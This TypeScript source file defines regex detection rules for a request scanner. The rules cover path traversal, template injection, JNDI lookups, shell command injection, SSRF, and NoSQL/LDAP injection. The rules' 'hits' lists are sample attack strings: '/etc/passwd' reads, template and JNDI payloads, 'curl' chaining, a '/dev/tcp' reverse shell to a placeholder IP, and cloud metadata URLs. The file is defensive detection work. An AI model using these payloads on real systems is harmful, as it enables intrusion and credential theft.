import { either } from './rule.ts';
import type { ThreatRule } from './rule.ts';

/** Ways out of the folder that a name belongs to. */
export const PATH_RULES: readonly ThreatRule[] = [
  {
    id: 'path_traversal.climb',
    category: 'path_traversal',
    points: 82,
    why: 'Several steps upwards lead out of the folder.',
    literals: either('../¦..\\¦..;/¦..../¦..%2f¦..%5c'),
    pattern:
      /(?:^|[/\\=:'"\s?&])(?:\.{2,4}(?:;)?[/\\]{1,4}){2,40}|(?:\.\.;[/\\]){1,40}|\.{4}[/\\]{2}/,
    hits: ['../../etc/passwd', '..\\..\\windows', '/static/..;/admin', '....//....//x'],
    misses: ['../sibling.ts', 'wait...', 'src/../lib'],
  },
  {
    id: 'path_traversal.single_climb',
    category: 'path_traversal',
    points: 48,
    why: 'A step upwards stands in a name or a path.',
    literals: either('../¦..\\¦/..'),
    pattern: /(?:^|[/\\])\.\.[/\\]|[/\\]\.\.$/,
    hits: ['../x', 'a/../b', 'a/..'],
    misses: ['a..b', '...'],
  },
  {
    id: 'path_traversal.system_file',
    category: 'path_traversal',
    points: 85,
    why: 'A file is named that holds accounts, keys or settings of the system.',
    literals: either(
      'etc/¦etc\\¦proc/¦win.ini¦boot.ini¦.ssh¦.bash_history¦system32¦.aws¦web.config¦.kube¦var/log¦winnt¦.docker/config¦run/secrets¦root/¦web-inf',
    ),
    pattern:
      /(?:^|[/\\:])etc[/\\]{1,2}(?:passwd|shadow|group|hosts|hostname|sudoers|crontab|ssh|nginx|mysql|issue|environment)\b|(?:^|[/\\:])proc[/\\](?:self|\d{1,6}|version|net|mounts)\b|[/\\](?:win|boot|system)\.ini\b|[/\\]?\.ssh[/\\](?:id_|authorized_keys|known_hosts)|\.bash_history\b|[/\\](?:windows|winnt)[/\\]system32\b|\.aws[/\\]credentials|\.kube[/\\]config|[/\\]var[/\\]log[/\\]\w|\.docker[/\\]config|[/\\]run[/\\]secrets[/\\]|web-inf[/\\]/,
    hits: ['/etc/passwd', 'file:///proc/self/environ', 'c:\\windows\\system32\\x', '~/.ssh/id_rsa'],
    misses: ['etcetera/passwd', 'the proc room', 'profile.ini'],
  },
  {
    id: 'path_traversal.wrapper',
    category: 'path_traversal',
    points: 80,
    why: 'An address names a file of the server instead of a page.',
    literals: either('file:¦php:¦phar:¦zip:¦expect:¦jar:¦netdoc:¦gopher:¦dict:'),
    pattern:
      /(?:^|[\s'"=(])(?:file:\/{1,3}(?:[a-z]:|[a-z.~%]|localhost)|php:\/\/(?:filter|input|data)|phar:\/\/|zip:\/\/|expect:\/\/|jar:(?:file|http)|netdoc:\/)/,
    hits: ['file:///etc/hosts', 'php://filter/convert.base64-encode/resource=x', 'jar:http://x!/a'],
    misses: ['the file: a note', 'php: the language'],
  },
  {
    id: 'path_traversal.null_byte',
    category: 'path_traversal',
    points: 70,
    why: 'A zero byte ends the name before its extension is looked at.',
    literals: either('\u0000¦%00'),
    // oxlint-disable-next-line no-control-regex -- the zero byte is what is looked for
    pattern: /\u0000|%00/,
    hits: ['x.php%00.png', 'a\u0000b'],
    misses: ['100 %', 'a b'],
  },
  {
    id: 'path_traversal.hidden_file',
    category: 'path_traversal',
    points: 60,
    why: 'A path asks for files of settings, versions or back-ups that are never served.',
    literals: either(
      '.env¦.git¦.svn¦.hg¦.htaccess¦.htpasswd¦.ds_store¦wp-config¦.bak¦.sql¦.npmrc¦id_rsa¦.pem¦docker-compose¦.old¦config.json¦phpinfo¦phpmyadmin¦wp-login¦wp-admin¦xmlrpc.php¦actuator¦server-status¦cgi-bin¦.aws¦web.config¦.php¦.asp¦.jsp¦boaform¦hnap1¦solr/¦jmx-console¦manager/html',
    ),
    pattern:
      /\/\.(?:env|git|svn|hg|htaccess|htpasswd|ds_store|npmrc|aws|ssh|vscode)(?:[./?]|$)|\/(?:wp-config|wp-login|wp-admin|xmlrpc|phpinfo|phpmyadmin|pma)\b|\.(?:bak|old|sql|pem|swp|sqlite)(?:\.gz)?$|\/id_rsa|\/docker-compose\.ya?ml|\/(?:actuator|server-status|cgi-bin|boaform|hnap1|jmx-console)(?:\/|$)|\/solr\/|\/manager\/html|web\.config$|\.(?:php\d?|aspx?|jspx?)(?:$|\/)/,
    places: ['path'],
    hits: ['/.env', '/.git/config', '/wp-login.php', '/backup.sql', '/actuator/env'],
    misses: ['/api/runs', '/docs/environment', '/.well-known/jwks.json'],
  },
];

/** Expressions of template engines in values. */
export const TEMPLATE_RULES: readonly ThreatRule[] = [
  {
    id: 'template_injection.arithmetic',
    category: 'template_injection',
    points: 84,
    why: 'A template expression computes something, which tells whether it is evaluated.',
    literals: either('{{¦${¦#{¦<%=¦*{¦@(¦{%¦[[¦~{'),
    pattern:
      /(?:\{\{|[$#*@~]\{|<%=|@\(|\[\[|\{%)[\s(=]{0,6}['"]?\d{1,9}['"]?\s{0,4}[*+-]\s{0,4}['"]?\d{1,9}/,
    hits: ['{{7*7}}', '${7*7}', '<%= 7*7 %>', '#{3*3}', "{{7*'7'}}"],
    misses: ['{{ steps.one.output }}', '${name}', '@(5 pm)'],
  },
  {
    id: 'template_injection.object_walk',
    category: 'template_injection',
    points: 90,
    why: 'An expression climbs from a value to classes and functions of the language.',
    literals: either(
      '__class__¦__mro__¦__subclasses__¦__globals__¦__builtins__¦__import__¦__init__¦.constructor¦getclass¦forname¦getruntime',
    ),
    pattern:
      /__(?:class|mro|subclasses|globals|builtins|import|base|bases)__|(?:\{\{|[$#]\{)[^{}]{0,100}(?:\.constructor\b|\['constructor'\]|getclass\s{0,2}\(|__init__)|\.getclass\s{0,2}\(\)|class\.forname\s{0,2}\(|getruntime\s{0,2}\(\)/,
    hits: [
      "{{''.__class__.__mro__}}",
      '${x.getClass().forName("a")}',
      "{{x.constructor.constructor('a')()}}",
    ],
    misses: ['class of 2020', '{{ inputs.text }}'],
  },
  {
    id: 'template_injection.engine_object',
    category: 'template_injection',
    points: 80,
    why: 'An expression names objects that template engines bring with them.',
    literals: either('{{¦${¦#{¦{%¦<%¦<#¦#set¦*{¦{php}'),
    pattern:
      /(?:\{\{|\{%|[$#*]\{)[^{}]{0,120}(?:\b(?:self|config|request|session|cycler|joiner|namespace|lipsum|url_for|get_flashed_messages|application|_self|settings|app)\s{0,2}(?:\.\s{0,2}(?:items|env|__|secret|application|getfilter|registerundefined|request|session|server)|\.__|\[)|\bt\s{0,2}\(\s{0,2}java|\bfreemarker\b|\battr\s{0,2}\()|\{%\s{0,4}(?:debug|import|include|extends|set\s{1,4}\w{1,20}\s{0,4}=)|<#(?:assign|import|include)\s|#set\s{0,3}\(\s{0,3}\$|<%[=\s]{0,4}(?:system|file|io|`|%x|require|global|process|exec)|\{php\}|\{system\(/,
    hits: [
      '{{config.items()}}',
      '<#assign x="freemarker">',
      '{% debug %}',
      '#set($x=1)',
      '<%= system("id") %>',
    ],
    misses: ['{{ config }}', '{{ session }}', '#settings'],
  },
  {
    id: 'template_injection.process_call',
    category: 'template_injection',
    points: 94,
    why: 'An expression starts a program.',
    literals: either(
      'popen¦exec(¦execute¦child_process¦processbuilder¦os.system¦spawn¦mainmodule¦process.env¦require(',
    ),
    pattern:
      /(?:\{\{|\{%|[$#*]\{|<%|<#)[^\n]{0,100}(?:\bpopen\b|\bexec\s{0,2}\(|child_process|processbuilder|os\.system|\bspawn(?:sync)?\s{0,2}\(|mainmodule|process\.env|\bexecute\b|require\s{0,2}\()/,
    hits: ["{{cycler.__init__.os.popen('id')}}", "${T(java.lang.Runtime).getRuntime().exec('id')}"],
    misses: ['we execute plans', 'exec (the board)'],
  },
  {
    id: 'template_injection.expression',
    category: 'template_injection',
    points: 46,
    why: 'A template expression stands in a value that is no template.',
    literals: either('{{¦<%¦#{¦{%'),
    pattern:
      /\{\{[^{}]{1,120}[(|*[+][^{}]{0,120}\}\}|<%=?[^%<>]{1,120}%>|#\{[^{}]{1,80}[(.*+][^{}]{0,80}\}|\{%[^{}%]{1,120}%\}/,
    hits: ['{{ a|b }}', '<%= a %>', '#{a.b()}'],
    misses: ['{{ name }}', '{ a: 1 }', '#{'],
  },
];

/** Look-ups that a logging library resolves. */
export const LOOKUP_RULES: readonly ThreatRule[] = [
  {
    id: 'lookup_injection.jndi',
    category: 'lookup_injection',
    points: 96,
    why: 'A look-up makes a logging library load code from an address.',
    literals: either('jndi'),
    pattern: /\$\{[^}]{0,60}jndi[^}]{0,12}:|jndi:(?:ldaps?|rmi|dns|iiop|nis|corba|http):/,
    hits: ['${jndi:ldap://x.example/a}', '${x-jndi:rmi://x}', 'jndi:dns://x'],
    misses: ['the JNDI API'],
  },
  {
    id: 'lookup_injection.nested',
    category: 'lookup_injection',
    points: 88,
    why: 'Look-ups inside of a look-up hide the name of another one.',
    literals: either('${lower:¦${upper:¦${::-¦:-j}¦${env:¦${sys:¦${date:¦:-'),
    pattern:
      /\$\{(?:[a-z]{0,12}:)?[^${}]{0,12}\$\{|\$\{(?:lower|upper|::?-?|env:[^${}]{0,30}:-|sys:[^${}]{0,30}:-|date:)['"]?:?-?[a-z'"]{1,4}\}/,
    hits: ['${${::-j}${::-n}di:x}', '${lower:j}ndi', '${${env:X:-j}ndi:ldap}'],
    misses: ['${name}', '${env}'],
  },
  {
    id: 'lookup_injection.environment',
    category: 'lookup_injection',
    points: 64,
    why: 'A look-up asks for the environment or for properties of the process.',
    literals: either(
      '${env:¦${sys:¦${java:¦${ctx:¦${main:¦${docker:¦${k8s:¦${script:¦${url:¦${dns:¦${base64decoder',
    ),
    pattern: /\$\{(?:env|sys|java|ctx|main|docker|k8s|script|url|dns|base64decoder|web|spring):/,
    hits: ['${env:AWS_SECRET}', '${script:javascript:x}', '${java:version}'],
    misses: ['${environment}', '$ {env}'],
  },
];

/** Programs of the server started from a value. */
export const COMMAND_RULES: readonly ThreatRule[] = [
  {
    id: 'command_injection.chained',
    category: 'command_injection',
    points: 84,
    why: 'A separator of the shell is followed by a program.',
    literals: either(';¦|¦&¦`¦$(¦\n¦<('),
    pattern:
      /(?:[;|&`\n]|\$\(|<\()\s{0,6}(?:sudo\s{1,4})?(?:\/(?:usr\/)?(?:s?bin\/))?(?:(?:cat|less|more|head|tail|tac|nl|grep)\s{1,4}[/.~$*\w-]{0,3}[/.~]|(?:id|whoami|uname|hostname|ifconfig|ipconfig|netstat|printenv|env|pwd|ls|dir|ps|w|set)(?:\s{1,4}-[a-z]{1,5}|\s{1,4}(?:[/.~]|[a-z]:)\S{0,40})?\s{0,4}(?:$|[;|&`)#'"\n])|(?:ping|nslookup|dig|host)\s{1,4}(?:-[a-z]\s{1,4}\d{1,4}\s{1,4})?[\w$`.-]{1,60}|(?:curl|wget|fetch)\s{1,4}[-\w:/'"$]|(?:nc|ncat|netcat|socat|telnet)\s{1,4}[-\w.:]|(?:bash|sh|zsh|ksh|dash|cmd|cmd\.exe|powershell|pwsh)(?:\s{1,4}[-/]\w|\s{0,2}$|\s{0,2}[;|<])|(?:python[23]?|perl|ruby|php|node)\s{1,4}-\w|(?:rm|chmod|chown|kill|mv|cp|dd|mkfifo|touch)\s{1,4}[-/\w+~]|sleep\s{1,4}\d|type\s{1,4}[a-z]:|net\s{1,4}(?:user|localgroup)|reboot\b|shutdown\b|echo\s{1,4}['"$\w]{1,60}\s{0,3}(?:[>|;&)`]|$))/,
    hits: [
      '; cat /etc/passwd',
      '| id',
      '$(whoami)',
      '&& curl http://x.example',
      '`uname -a`',
      '; sleep 5',
    ],
    misses: ['salt; pepper and id cards', 'cats | dogs', 'R&D', 'a & sleep'],
  },
  {
    id: 'command_injection.shell_path',
    category: 'command_injection',
    points: 74,
    why: 'A shell or its device files are named.',
    literals: either('/bin/¦/dev/tcp¦cmd¦powershell¦/dev/udp'),
    pattern:
      /\/bin\/(?:ba|z|k|da|c)?sh\b|\/dev\/(?:tcp|udp)\/|\bcmd(?:\.exe)?\s{1,4}\/[ck]\b|\bpowershell(?:\.exe)?\s{1,4}-(?:e|enc|nop|w|c|ep|command|executionpolicy)\b|\/bin\/(?:cat|ls|nc|id)\b/,
    hits: ['/bin/sh -i', 'bash -i >& /dev/tcp/1.2.3.4/9', 'powershell -enc AAA', 'cmd /c dir'],
    misses: ['the bin of shells', 'cmd + c'],
  },
  {
    id: 'command_injection.substitution',
    category: 'command_injection',
    points: 62,
    why: 'The shell would replace a part of the value by what a program says, or hides spaces in it.',
    literals: either('$(¦${ifs}¦$ifs¦`¦$9¦{cat,'),
    pattern:
      /\$\{?ifs\b|\$\(\s{0,3}[a-z_/.]{2,40}(?:\s|\)|\$)|`\s{0,2}(?:[a-z/._]{2,30}\s{1,3}[-/\w.$~]{1,40}|id|whoami|ls|uname|hostname)\s{0,2}`|\{[a-z]{2,10},[-/\w.]{1,40}\}/,
    hits: ['cat${IFS}/etc/x', 'a$(id)', 'x`whoami`', '{cat,/etc/passwd}'],
    misses: ['$(5 + 5)', 'a `word` b', '{a, b}'],
  },
  {
    id: 'command_injection.function_export',
    category: 'command_injection',
    points: 90,
    why: 'A function definition in a variable runs what follows it in old shells.',
    literals: either('() {¦(){¦( ) {'),
    pattern: /\(\s{0,2}\)\s{0,3}\{\s{0,3}(?::|_|ignored|foo)\s{0,2};\s{0,3}\}\s{0,3};/,
    hits: ['() { :; }; /bin/x', '() { ignored;};'],
    misses: ['() => {}', 'function f() { return; }'],
  },
];

/** Addresses that only the server itself can reach. */
export const SSRF_RULES: readonly ThreatRule[] = [
  {
    id: 'ssrf.metadata',
    category: 'ssrf',
    points: 92,
    why: 'The address is the one from which clouds give out keys of the machine.',
    literals: either(
      '169.254.¦metadata.google¦metadata.azure¦100.100.100.200¦fd00:ec2¦192.0.0.192¦a9fe¦2852039166¦169.254169¦metadata/instance¦latest/meta-data¦computemetadata¦[::ffff:a9¦0xa9',
    ),
    pattern:
      /\b169\.254\.(?:169\.254|170\.2)\b|metadata\.(?:google\.internal|azure\.(?:com|internal))|\b100\.100\.100\.200\b|fd00:ec2::254|\/\/192\.0\.0\.192|::ffff:a9fe:a9fe|\/\/2852039166\b|\/\/0xa9(?:fea9fe|\.0xfe)|\/latest\/(?:meta-data|user-data|api\/token)|\/computemetadata\/v1|\/metadata\/instance\b/,
    hits: [
      'http://169.254.169.254/latest/meta-data/',
      'http://metadata.google.internal/',
      'http://[::ffff:a9fe:a9fe]/',
      'http://2852039166/',
    ],
    misses: ['meta data', 'http://example.com/169'],
  },
  {
    id: 'ssrf.loopback',
    category: 'ssrf',
    points: 58,
    why: 'The address is the machine itself.',
    literals: either(
      '://localhost¦://127.¦://[::1¦://0.0.0.0¦://2130706433¦://0x7f¦://017700¦://0177.¦://[::ffff:7f¦://[::]¦://0/¦://0:¦://127¦localhost:¦localtest.me¦nip.io¦xip.io¦sslip.io¦@localhost¦@127.¦://[0:',
    ),
    pattern:
      /:\/\/(?:[^/\s@]{0,60}@)?(?:localhost(?=[:/?#\s'"]|$)|127(?:\.\d{1,3}){0,3}(?=[/:?#\s'"]|$)|\[(?:::1?|::ffff:(?:7f00:1|127\.\d{1,3}\.\d{1,3}\.\d{1,3})|0:0:0:0:0:(?:ffff:7f00|0:0):?1?)\]|0\.0\.0\.0|0(?=[/:])|2130706433\b|0x7f(?:000001|\.0x0|\.0)|0177\.0|017700000001)|\/\/[\w.-]{0,60}(?:localtest\.me|(?:127|10|192|169|172)[\w.-]{0,40}\.(?:nip|xip|sslip)\.io)/,
    // Pages of a laptop say in each Referer where they are.
    places: ['path', 'query', 'body'],
    hits: [
      'http://localhost:6379/',
      'http://127.0.0.1/admin',
      'http://[::1]/',
      'http://0x7f000001/',
      'http://2130706433/',
      'http://x@127.0.0.1/',
    ],
    misses: ['localhost is home', 'https://127bits.example'],
  },
  {
    id: 'ssrf.private_network',
    category: 'ssrf',
    points: 52,
    why: 'The address is of a private network.',
    literals: either(
      '://10.¦://192.168.¦://172.¦://[fc¦://[fd¦://[fe80¦.internal¦.local¦.svc¦.corp¦://intranet¦kubernetes.default',
    ),
    pattern:
      /:\/\/(?:[^/\s@]{0,60}@)?(?:10(?:\.\d{1,3}){3}|192\.168(?:\.\d{1,3}){2}|172\.(?:1[6-9]|2\d|3[01])(?:\.\d{1,3}){2}|\[f[cd][0-9a-f]{2}:|\[fe80:|[\w.-]{1,80}\.(?:internal|local|corp|svc(?:\.cluster\.local)?)(?=[/:?#\s'"]|$)|intranet\b|kubernetes\.default)/,
    // Pages of a laptop say in each Referer where they are.
    places: ['path', 'query', 'body'],
    hits: [
      'http://10.0.0.1/',
      'http://192.168.1.1:8080/x',
      'http://172.16.9.9/',
      'http://db.internal/',
      'http://[fd12:3456::1]/',
    ],
    misses: ['https://10minutes.example', 'http://172.15.0.1/', 'internal note'],
  },
  {
    id: 'ssrf.odd_scheme',
    category: 'ssrf',
    points: 78,
    why: 'The address speaks to services that are not for the web.',
    literals: either('gopher:¦dict:¦ldap:¦ldaps:¦tftp:¦sftp:¦netdoc:¦ftp://1¦ftp://l'),
    pattern:
      /(?:^|[\s'"=(])(?:gopher|dict|ldaps?|tftp|netdoc):\/\/?[^\s/]|(?:^|[\s'"=(])s?ftp:\/\/(?:127\.|localhost|10\.|192\.168\.)/,
    hits: ['gopher://127.0.0.1:6379/_x', 'dict://x.example:11211/', 'ldap://localhost'],
    misses: ['gopher holes', 'the dict: a b'],
  },
  {
    id: 'ssrf.confusing_host',
    category: 'ssrf',
    points: 50,
    why: 'The address is written so that two readers see two hosts in it.',
    literals: either('@¦\\'),
    pattern:
      /https?:\/\/[^\s/?#@]{1,80}(?::\d{1,5})?(?:[#\\?]|%23|%5c)[^\s/]{0,40}@[\w.[]|https?:[\\]{1,2}[\w.]|https?:\/\/[^\s/?#]{1,80}\\@/,
    hits: [
      'http://good.example\\@127.0.0.1/',
      'http://a.example#@b.example/',
      'http:\\\\x.example',
    ],
    misses: ['mail ada@example.com about http://x.example', 'https://example.com/@user'],
  },
];

/** Operators of document databases in values. */
export const NOSQL_RULES: readonly ThreatRule[] = [
  {
    id: 'nosql.operator_key',
    category: 'nosql',
    points: 72,
    why: 'A field is named like an operator of a document database.',
    literals: either('$'),
    pattern:
      /(?:^|[[.])\$(?:where|ne|eq|gte?|lte?|n?in|regex|exists|not|n?or|and|expr|function|accumulator|lookup|elemmatch|type|mod|all|size|jsonschema|options)\]?$/,
    places: ['key', 'query'],
    hits: ['$ne', 'password[$gt]', 'user.$regex', '$where'],
    misses: ['$name', 'price$', '$ref'],
  },
  {
    id: 'nosql.operator_json',
    category: 'nosql',
    points: 78,
    why: 'A value is JSON with operators of a document database.',
    literals: either('$'),
    pattern:
      /\{\s{0,4}['"]?\$(?:where|ne|gte?|lte?|n?in|regex|exists|not|n?or|expr|function|elemmatch)['"]?\s{0,4}:/,
    hits: ['{"$gt": ""}', "{'$where': 'sleep(1)'}", '{$ne: 1}'],
    misses: ['{"$ref": "#/a"}', '{ $name }'],
  },
  {
    id: 'nosql.script_break',
    category: 'nosql',
    points: 82,
    why: 'A quote is followed by script that a document database would run.',
    literals: either('this.¦function(¦function (¦db.¦return ¦tojson('),
    pattern:
      /['"]\s{0,3}(?:\|\||&&|;|\))\s{0,4}(?:this\.\w{1,40}|(?:return|var)\s{1,4}\w{1,40}|function\s{0,2}\()|\bthis\.\w{1,40}\s{0,3}(?:==|!=|\.match)|\bdb\.\w{1,40}\.(?:find|drop|remove|insert|update)\s{0,2}\(|\btojson\s{0,2}\(|;\s{0,3}return\s{1,3}(?:true|1|this)\b/,
    hits: ["' || this.password.match(/a/)//", "';return true;var x='", 'db.users.drop()'],
    misses: ['this. is fine', 'return to sender', 'a database db.'],
  },
  {
    id: 'nosql.ldap_filter',
    category: 'nosql',
    points: 66,
    why: 'The value closes a filter of a directory and opens another.',
    literals: either(')(¦*)'),
    pattern:
      /\*\s{0,2}\)\s{0,2}\(\s{0,2}[|&!]?|\)\s{0,2}\(\s{0,2}[|&!]\s{0,2}\(?|\)\(\s{0,2}(?:uid|cn|objectclass|mail|userpassword|samaccountname)\s{0,2}[=~<>]/,
    hits: ['*)(uid=*))(|(uid=*', 'admin)(|(password=*))', '*)(objectClass=*'],
    misses: ['(a) (b)', 'f(x)(y)'],
  },
];
